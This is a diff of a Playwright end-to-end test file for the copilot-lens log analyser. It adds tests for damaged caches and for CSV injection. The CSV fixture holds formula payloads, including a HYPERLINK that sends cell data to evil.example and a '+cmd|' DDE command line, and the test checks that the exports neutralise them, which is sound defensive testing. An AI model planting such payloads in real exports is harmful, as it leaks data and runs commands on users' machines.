@@ -3,7 +3,7 @@
 // npm playwright-core). Needs www/ built (scripts/build-web.sh), dist/copilot-lens.html
 // (scripts/build-single.sh) and target/release/copilot-lens (the expected numbers come from the
 // native CLI on the same input). Screenshots go to $SHOTS_DIR (default /tmp/copilot-lens-shots).
-//   node tests/e2e/run.mjs [NAME_FILTER]
+//   node tests/e2e/run.mjs [NAME_FILTER]     runs only the tests whose name holds NAME_FILTER
 import { execFileSync, spawnSync } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
@@ -155,6 +155,11 @@ async function shot(page, name, full = true) {
 // The page's own files it loads on first use, after an analysis is done: the chart and Markdown
 // libraries (www/charts.js, www/markdown.js) and the views other than the overview with their
 // modules (app.js's VIEWS).
+// The engine's full module, fetched for a file to save, the report, a team export or the bill;
+// the worker then starts again on it, and its two workers fetch their scripts again (from the
+// browser's cache, where the server lets it keep them).
+const FULL_MODULE = '/pkg/copilot_lens_full_bg.wasm';
+const WORKER_SCRIPTS = ['/worker.js', '/pkg/copilot_lens.js', '/cache.js'];
 const LOADED_ON_USE = [
   '/vendor/chart.umd.min.js',
   '/vendor/marked.umd.js',
@@ -171,9 +176,10 @@ const shownSoon = (page, selector) =>
   );
 
 function noNetworkAfterLoad(net, server, label, allowedAlso = []) {
-  const allowed = [...LOADED_ON_USE, ...allowedAlso];
   assertEqual(net.foreign, [], `${label}: no request leaves the page's origin`);
   const after = net.during('after-load').map((e) => e.url).filter((url) => !url.startsWith('blob:') && !url.startsWith('data:'));
+  const fullEngine = after.some((url) => url.endsWith(FULL_MODULE)) ? [FULL_MODULE, ...WORKER_SCRIPTS] : [];
+  const allowed = [...LOADED_ON_USE, ...fullEngine, ...allowedAlso];
   const unexpected = after.filter((url) => !allowed.some((suffix) => url.endsWith(suffix)));
   assertEqual(unexpected, [], `${label}: no request after the page has loaded`);
   if (server) {
@@ -1136,6 +1142,16 @@ shutil.rmtree(work)`, store]);
   }
 });
 
+/** Picks `folder` and waits until its analysis is done and kept in the cache; returns what the cache did. */
+async function pickKept(page, folder) {
+  await page.evaluate(() => (window.copilotLens.cache = 'before'));
+  await page.setInputFiles('#pick-folder', folder);
+  await page.waitForFunction(() => window.copilotLens.cache !== 'before' && document.body.dataset.state === 'done', null, { timeout: 120_000 });
+  // The worker keeps the cache after done, before it says the analysis settled.
+  await page.waitForFunction(() => window.copilotLens.settled !== null);
+  return page.evaluate(() => window.copilotLens.cache);
+}
+
 test('the cache: a picked folder analysed again opens none of the logs whose size and time are as when the cache took them, and reads the one edited since; its exports equal a cold analysis', async () => {
   const { home, state, first } = specHome('unread-home');
   for (const n of [2, 3]) copySpecSession(home, n);
@@ -1145,14 +1161,7 @@ test('the cache: a picked folder analysed again opens none of the logs whose siz
   const browser = await launch();
   try {
     const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
-    const analysed = async () => {
-      await page.evaluate(() => (window.copilotLens.cache = 'before'));
-      await page.setInputFiles('#pick-folder', home);
-      await page.waitForFunction(() => window.copilotLens.cache !== 'before' && document.body.dataset.state === 'done', null, { timeout: 120_000 });
-      // The worker keeps the cache after done, before it says the analysis settled.
-      await page.waitForFunction(() => window.copilotLens.settled !== null);
-      return page.evaluate(() => window.copilotLens.cache);
-    };
+    const analysed = () => pickKept(page, home);
     const cold = await analysed();
     assertEqual([cold.from_cache, cold.unread], [0, 0], 'the first analysis takes nothing from the cache');
     const again = await analysed();
@@ -1181,6 +1190,176 @@ test('the cache: a picked folder analysed again opens none of the logs whose siz
     for (const name of Object.keys(coldExports)) assert(exports[name] === coldExports[name], `${name}: the analysis from the cache equals the cold one, byte for byte`);
     assertEqual(errors, [], 'no page errors');
     return `${again.unread} logs not opened when nothing changed; ${refreshed.unread} after one was edited; ${Object.keys(exports).length} exports equal cold`;
+  } finally {
+    await browser.close();
+    rmSync(home, { recursive: true, force: true });
+  }
+});
+
+/** The bytes of the file `name` of the page's cache folder. */
+async function cacheFileBytes(page, name) {
+  const b64 = await page.evaluate(async (name) => {
+    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
+    const bytes = new Uint8Array(await (await (await dir.getFileHandle(name)).getFile()).arrayBuffer());
+    let text = '';
+    for (const b of bytes) text += String.fromCharCode(b);
+    return btoa(text);
+  }, name);
+  return Buffer.from(b64, 'base64');
+}
+
+/** The size of the file `name` of the page's cache folder. */
+function cacheFileSize(page, name) {
+  return page.evaluate(async (name) => {
+    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
+    return (await (await dir.getFileHandle(name)).getFile()).size;
+  }, name);
+}
+
+/**
+ * Changes the file `name` of the page's cache folder: `writes` ({at, b64}) over it, after it is
+ * cut (or grown with zeros) to `size` if given.
+ */
+async function damageCacheFile(page, name, { size = null, writes = [] }) {
+  await page.evaluate(async ({ name, size, writes }) => {
+    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
+    const writable = await (await dir.getFileHandle(name)).createWritable({ keepExistingData: true });
+    if (size !== null) await writable.truncate(size);
+    for (const { at, b64 } of writes) await writable.write({ type: 'write', position: at, data: Uint8Array.from(atob(b64), (c) => c.charCodeAt(0)) });
+    await writable.close();
+  }, { name, size, writes });
+}
+
+/**
+ * The entries a pack's index names ({name, start, length}): the index is postcard (src/page_cache.rs,
+ * PackIndex: version, build, full, then each entry's name, start, length, time and what it was made
+ * for), before its length and the format's magic.
+ */
+function packEntries(pack) {
+  assertEqual(pack.subarray(-8).toString('latin1'), 'CLpack04', 'the pack ends in the magic of its format');
+  let at = pack.length - 16 - Number(pack.readBigUInt64LE(pack.length - 16));
+  const varint = () => {
+    let [value, scale] = [0, 1];
+    for (;;) {
+      assert(at < pack.length, 'the index ends inside the pack');
+      const byte = pack[at++];
+      value += (byte & 0x7f) * scale;
+      if (byte < 0x80) return value;
+      scale *= 128;
+    }
+  };
+  const text = () => {
+    const length = varint();
+    return pack.toString('utf8', at, (at += length));
+  };
+  const option = (read) => pack[at++] && read();
+  text();
+  text();
+  at++;
+  const entries = [];
+  for (let count = varint(); count > 0; count--) {
+    const [name, start, length] = [text(), varint(), varint()];
+    option(varint);
+    option(() => [varint(), varint()]);
+    entries.push({ name, start, length });
+  }
+  return entries;
+}
+
+/** The report without its cache_ignored diagnostics, and those. */
+function withoutCacheIgnored(reportJson) {
+  const report = JSON.parse(reportJson);
+  const ignored = report.diagnostics.filter((d) => d.kind === 'cache_ignored');
+  report.diagnostics = report.diagnostics.filter((d) => d.kind !== 'cache_ignored');
+  for (const file of report.files) if (ignored.some((d) => d.file === file.path && d.message === file.message)) delete file.message;
+  return { report, ignored };
+}
+
+test('the cache: a damaged pack (bits flipped inside its logs\' entries, 1 GiB of zeros, cut short) never changes a figure or an export: the entries or the pack are dropped with a word, the file read again, and the next analysis uses the cache again', async () => {
+  const { home, first } = specHome('damaged-pack-home');
+  const logs = [first, copySpecSession(home, 2), copySpecSession(home, 3)].map((id) => `.copilot/session-state/${id}/events.jsonl`);
+  // Long settled: the logs are taken from their entries unopened, the damaged ones too.
+  const twoDaysAgo = Date.now() / 1000 - 2 * 86400;
+  for (const rel of filesUnder(home)) utimesSync(path.join(home, rel), twoDaysAgo, twoDaysAgo);
+  const expected = native(home, { byName: true });
+  const browser = await launch();
+  try {
+    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
+    const analysed = () => pickKept(page, home);
+    const cold = await analysed();
+    assertEqual([cold.from_cache, cold.problem], [0, null], 'the first analysis takes nothing from the cache');
+    const coldExports = await everyExport(page);
+    for (const [name, text] of [['rows.jsonl', expected.rowsJsonl], ['sessions.jsonl', expected.sessionsJsonl], ['inventory.json', expected.inventoryJson], ['usage.csv', expected.usageCsv]]) {
+      assert(coldExports[name] === text, `${name} of the cold analysis equals the native CLI's`);
+    }
+    const warm = await analysed();
+    assertEqual([warm.changed, warm.from_cache, warm.unread], [0, 4, 3], 'the three logs and the store came from the cache');
+    const index = await page.evaluate(async () => {
+      const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
+      return JSON.parse(await (await (await dir.getFileHandle('index.json')).getFile()).text());
+    });
+    const packs = Object.values(index.inputs).map((input) => input.file);
+    assertEqual(packs.length, 1, 'one input, one pack');
+    const pack = packs[0];
+
+    /** Analyses the home again after a damage: every export as cold, the cache's word; returns them. */
+    const afterDamage = async (label) => {
+      const run = await analysed();
+      const exports = await everyExport(page);
+      assertEqual(Object.keys(exports).sort(), Object.keys(coldExports).sort(), `${label}: the same exports`);
+      for (const name of Object.keys(exports)) {
+        if (name !== 'report.json') assert(exports[name] === coldExports[name], `${label}: ${name} equals the cold analysis's, byte for byte`);
+      }
+      const { report, ignored } = withoutCacheIgnored(exports['report.json']);
+      assertEqual(report, JSON.parse(coldExports['report.json']), `${label}: report.json equals the cold analysis's but for the cache's diagnostics`);
+      assertEqual(await summaryOf(page), sortKeys(expected.summary), `${label}: the summary equals the native CLI's`);
+      return { run, ignored, line: await page.textContent('#cache-status') };
+    };
+    /** The next analysis takes everything from the cache again, and says nothing of a damage. */
+    const healed = async (label) => {
+      const again = await analysed();
+      assertEqual([again.changed, again.from_cache, again.unread, again.problem], [0, 4, 3, null], `${label}: the next analysis takes the logs and the store from the cache again`);
+      assertEqual(withoutCacheIgnored((await exportFile(page, 'report.json')).text).ignored, [], `${label}: and has no word of the cache`);
+    };
+
+    // 1. Bits flipped in the middle of each log's entry: each entry is ignored with its diagnostic, its log read.
+    const bytes = await cacheFileBytes(page, pack);
+    const logEntries = packEntries(bytes).filter((entry) => entry.name.startsWith('log-'));
+    assertEqual(logEntries.length, 3, 'an entry a log');
+    const writes = logEntries.map(({ start, length }) => {
+      const at = start + Math.floor(length / 2);
+      return { at, b64: Buffer.from(bytes.subarray(at, at + 16).map((b) => b ^ 0xff)).toString('base64') };
+    });
+    await damageCacheFile(page, pack, { writes });
+    const flipped = await afterDamage('bits flipped');
+    assertEqual([flipped.run.changed, flipped.run.from_cache, flipped.run.problem], [3, 1, null], 'bits flipped: the three logs were parsed again, the store came from the cache');
+    assertEqual(flipped.ignored.map((d) => d.file).sort(), [...logs].sort(), 'bits flipped: a cache_ignored diagnostic for each log');
+    for (const { message } of flipped.ignored) assertEqual(message, "the cache's entry is damaged (its checksum differs): ignored, the log was parsed again", 'bits flipped: the diagnostic says why');
+    await showView(page, 'diagnostics');
+    const problems = await page.textContent('#view-diagnostics');
+    assert(problems.includes('cache_ignored') && problems.includes("the cache's entry is damaged (its checksum differs)"), 'bits flipped: Diagnostics lists the damaged entries');
+    await healed('bits flipped');
+
+    // 2. The pack made 1 GiB of zeros (and 3. cut to half its size): dropped whole with a word; analysed cold and kept anew.
+    const lines = [];
+    for (const [label, sizeOf] of [['1 GiB of zeros', async () => 1 << 30], ['cut short', async () => Math.floor((await cacheFileSize(page, pack)) / 2)]]) {
+      const size = await sizeOf();
+      if (label.endsWith('zeros')) await damageCacheFile(page, pack, { size: 0 });
+      await damageCacheFile(page, pack, { size });
+      assertEqual(await cacheFileSize(page, pack), size, `${label}: the pack's size`);
+      const { run, ignored, line } = await afterDamage(label);
+      const problem = 'The cache kept in this browser is damaged: analysed anew.';
+      assertEqual([run.changed, run.from_cache, run.problem], [cold.changed, 0, problem], `${label}: every file read, and why`);
+      assertEqual(ignored, [], `${label}: no entry of it was read`);
+      assert(/^Analysed in \d+\.\d s; kept in this browser's cache for the next time\. /.test(line) && line.endsWith(` ${problem}`), `${label}: the cache line says so: ${line}`);
+      lines.push(line);
+      await showView(page, 'diagnostics');
+      assertEqual(await page.textContent('#cache-note'), problem, `${label}: and Diagnostics`);
+      assert((await cacheFileSize(page, pack)) < 1 << 20, `${label}: the pack is written anew`);
+      await healed(label);
+    }
+    assertEqual(errors, [], 'no page errors');
+    return `${flipped.ignored.length} damaged entries ignored, each with its diagnostic; a pack of zeros and one cut short dropped: ${JSON.stringify(lines)}`;
   } finally {
     await browser.close();
     rmSync(home, { recursive: true, force: true });
@@ -1614,15 +1793,18 @@ function nativeUsageCsv(input, zone) {
   return csv;
 }
 
-/** The native `usage INPUT --export` of `what` (team.csv or team.jsonl) at `exportedAt`. */
-function nativeTeamExport(input, what, exportedAt) {
+/** The native `usage INPUT --export` of `what` (team.csv or team.jsonl) at `exportedAt`, with `args`. */
+function nativeTeamExport(input, what, exportedAt, args = []) {
   const out = mkdtempSync(path.join(os.tmpdir(), 'copilot-lens-team-'));
   const file = path.join(out, what);
-  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', input, '--export', file, '--exported-at', exportedAt], { stdio: 'ignore' });
+  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', input, '--export', file, '--exported-at', exportedAt, ...args], { stdio: 'ignore' });
   const text = readFileSync(file, 'utf8');
   rmSync(out, { recursive: true, force: true });
   return text;
 }
+
+/** The time a team export says it was made at, to the second (as the CLI's --exported-at takes it). */
+const exportedAtOf = (text) => /"?exported_at"?[:,].*?(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ)/s.exec(text)[1];
 
 /** The native `usage ... --json` with `args`. */
 function nativeUsage(input, args) {
@@ -2258,9 +2440,8 @@ test('the inventory fixture: the inventory view and the session view show what t
     // home's logs; the machine the picked folder's name, as the CLI names the same folder).
     for (const what of ['team.csv', 'team.jsonl']) {
       const team = await exportFile(page, what);
-      const exportedAt = /"?exported_at"?[:,].*?(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ)/s.exec(team.text)[1];
       assert(team.text.includes('mona'), `${what} names the login`);
-      assertEqual(team.text, nativeTeamExport(home, what, exportedAt), `${what} equals the native usage --export, byte for byte`);
+      assertEqual(team.text, nativeTeamExport(home, what, exportedAtOf(team.text)), `${what} equals the native usage --export, byte for byte`);
     }
 
     await showView(page, 'inventory');
@@ -2755,6 +2936,114 @@ test('hostile HTML in prompts, tool output, names and file names never executes 
     assertEqual(errors, [], 'no page errors');
     noNetworkAfterLoad(net, server, 'hostile');
     return 'window.__pwned unset, no dialogs, no CSP violations, no foreign elements or handlers, payloads visible as text';
+  } finally {
+    await browser.close();
+  }
+});
+
+// ---- CSV injection ---------------------------------------------------------------------------------
+
+/** What a spreadsheet reads as the start of a formula (OWASP's CSV injection list, and NUL). */
+const FORMULA_START = /^[=+\-@\t\r\0]/;
+const FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
+/**
+ * A home TMP/=machine signed in as @mona, of two sessions whose model, project, branch, name,
+ * tool and prompts start as formulas: each of =, +, -, @, tab and CR starts some.
+ */
+function formulaHome() {
+  const home = path.join(TMP, '=machine');
+  rmSync(home, { recursive: true, force: true });
+  const sessions = [
+    { id: '4a110000-0000-4000-8000-000000000001', hour: '09', model: FORMULA_MODEL, cwd: "+cmd|' /C calc'!A0", branch: '-rf', title: '@SUM(1+1)', tool: '=tool', prompts: ['=1+2', '\t=tab', '\r=return', '-2', '+3', '@here', 'plain'] },
+    { id: '4a110000-0000-4000-8000-000000000002', hour: '10', model: '@gpt-5.4', cwd: '-/srv/shop', branch: '\tmain', title: '\rtitle', tool: '+tool', prompts: ['@mention', 'plain again'] },
+  ];
+  for (const { id, hour, model, cwd, branch, title, tool, prompts } of sessions) {
+    const events = [
+      ['session.start', { sessionId: id, copilotVersion: '1.0.102', startTime: `2026-11-10T${hour}:00:00.000Z`, selectedModel: model, context: { cwd, branch } }],
+      ['session.model_change', { newModel: model }],
+      ...prompts.flatMap((content) => [
+        ['user.message', { content }],
+        ['assistant.message', { content: 'done', model }],
+      ]),
+      ['tool.execution_start', { toolCallId: 'c1', toolName: tool, arguments: { command: '-la' } }],
+      ['tool.execution_complete', { toolCallId: 'c1', success: true, result: { content: '=result' } }],
+      ['session.shutdown', { shutdownType: 'routine', modelMetrics: { [model]: { requests: { count: 2, cost: 1 }, usage: { inputTokens: 1000, outputTokens: 100, cacheReadTokens: 0, cacheWriteTokens: 0, reasoningTokens: 0 } } } }],
+    ];
+    const lines = events.map(([type, data], at) => JSON.stringify({ id: `e${at}`, parentId: null, timestamp: `2026-11-10T${hour}:00:${String(at).padStart(2, '0')}.000Z`, type, data }));
+    const dir = path.join(home, '.copilot/session-state', id);
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(path.join(dir, 'events.jsonl'), lines.join('\n') + '\n');
+    writeFileSync(path.join(dir, 'workspace.yaml'), `id: ${id}\nname: ${JSON.stringify(title)}\n`);
+  }
+  mkdirSync(path.join(home, '.copilot/logs'), { recursive: true });
+  writeFileSync(path.join(home, '.copilot/logs/process-1794301200000-4242.log'), '2026-11-10T08:59:59.400Z [INFO] Signed in to https://github.com as @mona.\n');
+  return home;
+}
+
+/** A CSV's records, header first, as RFC 4180 reads them (a quoted field holds commas, line breaks and doubled quotes). */
+function csvRecords(text) {
+  const records = [];
+  let [record, field, quoted] = [[], '', false];
+  for (let at = 0; at < text.length; at++) {
+    const c = text[at];
+    if (quoted && c === '"' && text[at + 1] === '"') (field += '"'), at++;
+    else if (c === '"') quoted = !quoted;
+    else if (quoted || (c !== ',' && c !== '\n')) field += c;
+    else {
+      record.push(field);
+      field = '';
+      if (c === '\n') records.push(record), (record = []);
+    }
+  }
+  assert(!quoted && !field && !record.length, 'the CSV ends with its last record\'s line break');
+  return records;
+}
+
+test('CSV injection: names, a tool and prompts that start as formulas are written as text in the page\'s rows.csv, usage.csv and team.csv, the bytes the native CLI writes', async () => {
+  const home = formulaHome();
+  const expected = native(home, { byName: true });
+  const browser = await launch();
+  try {
+    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
+    await pick(page, home);
+    await checkNumbers(page, expected, 'formula home');
+    const csvs = {
+      'rows.csv': (await exportFile(page, 'rows.csv')).text,
+      'usage.csv': (await exportFile(page, 'usage.csv')).text,
+    };
+    assert(csvs['rows.csv'] === csvFromRowsJsonl(expected.rowsJsonl), 'rows.csv equals, byte for byte, the CSV of the native rows.jsonl');
+    assert(csvs['usage.csv'] === expected.usageCsv, 'usage.csv equals the native one byte for byte');
+    // The team export, with short project names and with the paths shared (which start as formulas).
+    for (const share of [false, true]) {
+      await showView(page, 'exports');
+      await page.setChecked('#team-share-projects', share);
+      const team = await download(page, () => page.click('#view-exports button[data-export="team.csv"]'));
+      const name = share ? 'team.csv --share-projects' : 'team.csv';
+      assertEqual(team.text, nativeTeamExport(home, 'team.csv', exportedAtOf(team.text), share ? ['--share-projects'] : []), `${name} equals the native usage --export, byte for byte`);
+      csvs[name] = team.text;
+    }
+
+    // No cell opens as a formula (but a number the project wrote); the names read back after their '.
+    const neutralised = new Set();
+    for (const [name, text] of Object.entries(csvs)) {
+      const records = csvRecords(text);
+      assert(records.length > 1 && records.every((record) => record.length === records[0].length), `${name}: a header and records of its columns`);
+      const live = records.flat().filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
+      assertEqual(live, [], `${name}: no cell opens as a formula`);
+      for (const cell of records.flat()) if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) neutralised.add(cell);
+      const column = (title) => records.slice(1).map((record) => record[records[0].indexOf(title)]);
+      if (name.startsWith('team.csv')) {
+        assertEqual([...new Set(column('user'))], ["'@mona"], `${name}: the login`);
+        assertEqual([...new Set(column('machine'))], ["'=machine"], `${name}: the machine, the picked folder's name`);
+      }
+      if (name !== 'rows.csv') assertEqual([...new Set(column('model'))].sort(), ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@gpt-5.4"], `${name}: the models`);
+    }
+    for (const cell of ["'=1+2", "'\t=tab", "'\r=return", "'-2", "'+3", "'@here", "'=tool", "'+tool", "'-rf", "'\tmain", "'=result", "'+cmd|' /C calc'!A0", "'-/srv/shop"]) {
+      assert(neutralised.has(cell), `${JSON.stringify(cell)} is written as text: ${JSON.stringify([...neutralised].sort())}`);
+    }
+    assertEqual(errors, [], 'no page errors');
+    return `${Object.keys(csvs).length} CSVs equal the native ones; ${neutralised.size} cells written as text: ${JSON.stringify([...neutralised].sort())}`;
   } finally {
     await browser.close();
   }
